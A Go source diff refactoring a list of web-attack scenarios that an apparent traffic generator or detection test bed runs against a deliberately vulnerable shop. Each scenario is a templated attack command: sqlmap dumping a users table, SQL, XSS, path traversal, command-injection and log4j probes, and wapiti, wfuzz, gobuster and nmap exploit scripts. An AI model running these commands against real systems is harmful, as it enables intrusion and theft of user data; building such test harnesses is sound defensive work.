@@ -11,30 +11,26 @@ import (
 
 // webAttacks: against the shop, which has the holes.
 func webAttacks() []Scenario {
-	row := func(name, line string, also ...attack.Class) Scenario {
-		return Scenario{Name: name, Class: attack.WebAttack, Also: also, Limit: 45 * time.Second, Play: func(ctx context.Context, r *Run) error {
-			return strike(ctx, r, line)
-		}}
-	}
+	shop := family{class: attack.WebAttack, limit: 45 * time.Second, play: strike}
 	const sqlmap = "sqlmap --batch --flush-session --disable-coloring AGENT --threads THREADS "
 	return []Scenario{
-		row("sqlmap-item", sqlmap+"-u 'http://VICTIM/item?id=ID' --technique=TECHNIQUE --dump -T users"),
-		row("sqlmap-login", sqlmap+"-u 'http://VICTIM/login' --data 'user=a&password=b' --level 2 --dbs"),
-		row("sqlmap-search", sqlmap+"-u 'http://VICTIM/search?q=lamp' --level 3 --risk 2"),
-		row("sqlmap-crawl", sqlmap+"-u 'http://VICTIM/' --crawl 1 --forms"),
-		row("sqlmap-time", sqlmap+"-u 'http://VICTIM/item?id=ID' --technique=T --time-sec 2 --current-user"),
-		row("sql-by-hand", "SELF probe -url http://VICTIM/item?id= -kind sql -count COUNT -every EVERY"),
-		row("sql-login", "SELF probe -url http://VICTIM/login?user= -post -kind sql -count COUNT -every EVERY"),
-		row("xss-search", "SELF probe -url http://VICTIM/search?q= -kind xss -count COUNT -every EVERY"),
-		row("xss-comment", "SELF probe -url http://VICTIM/comment?body= -post -kind xss -count COUNT -every EVERY -keep"),
-		row("traversal", "SELF probe -url http://VICTIM/file?name= -kind traversal -count COUNT -every EVERY"),
-		row("command", "SELF probe -url http://VICTIM/ping?host= -kind command -count COUNT -every EVERY -keep"),
-		row("templates", "SELF probe -url http://VICTIM/search?q= -kind log4j -count COUNT -every EVERY"),
-		row("wapiti", "wapiti -u http://VICTIM/ --flush-session --max-scan-time 40 -S normal -m sql,xss,file,exec"),
-		row("gobuster", "gobuster dir -q -t THREADS -w /usr/share/dirb/wordlists/small.txt -u http://VICTIM/"),
-		row("dirb", "dirb http://VICTIM/ /usr/share/dirb/wordlists/small.txt -S -r"),
-		row("wfuzz", "wfuzz -t THREADS -w /usr/share/wfuzz/wordlist/Injections/All_attack.txt 'http://VICTIM/search?q=FUZZ'"),
-		row("nmap-http", "nmap -n -Pn -p 80 --script 'http-sql-injection,http-enum,http-stored-xss,http-fileupload-exploiter' VICTIM", attack.PortScan),
+		shop.row("sqlmap-item", sqlmap+"-u 'http://VICTIM/item?id=ID' --technique=TECHNIQUE --dump -T users"),
+		shop.row("sqlmap-login", sqlmap+"-u 'http://VICTIM/login' --data 'user=a&password=b' --level 2 --dbs"),
+		shop.row("sqlmap-search", sqlmap+"-u 'http://VICTIM/search?q=lamp' --level 3 --risk 2"),
+		shop.row("sqlmap-crawl", sqlmap+"-u 'http://VICTIM/' --crawl 1 --forms"),
+		shop.row("sqlmap-time", sqlmap+"-u 'http://VICTIM/item?id=ID' --technique=T --time-sec 2 --current-user"),
+		shop.row("sql-by-hand", "SELF probe -url http://VICTIM/item?id= -kind sql -count COUNT -every EVERY"),
+		shop.row("sql-login", "SELF probe -url http://VICTIM/login?user= -post -kind sql -count COUNT -every EVERY"),
+		shop.row("xss-search", "SELF probe -url http://VICTIM/search?q= -kind xss -count COUNT -every EVERY"),
+		shop.row("xss-comment", "SELF probe -url http://VICTIM/comment?body= -post -kind xss -count COUNT -every EVERY -keep"),
+		shop.row("traversal", "SELF probe -url http://VICTIM/file?name= -kind traversal -count COUNT -every EVERY"),
+		shop.row("command", "SELF probe -url http://VICTIM/ping?host= -kind command -count COUNT -every EVERY -keep"),
+		shop.row("templates", "SELF probe -url http://VICTIM/search?q= -kind log4j -count COUNT -every EVERY"),
+		shop.row("wapiti", "wapiti -u http://VICTIM/ --flush-session --max-scan-time 40 -S normal -m sql,xss,file,exec"),
+		shop.row("gobuster", "gobuster dir -q -t THREADS -w /usr/share/dirb/wordlists/small.txt -u http://VICTIM/"),
+		shop.row("dirb", "dirb http://VICTIM/ /usr/share/dirb/wordlists/small.txt -S -r"),
+		shop.row("wfuzz", "wfuzz -t THREADS -w /usr/share/wfuzz/wordlist/Injections/All_attack.txt 'http://VICTIM/search?q=FUZZ'"),
+		shop.row("nmap-http", "nmap -n -Pn -p 80 --script 'http-sql-injection,http-enum,http-stored-xss,http-fileupload-exploiter' VICTIM", attack.PortScan),
 	}
 }
 
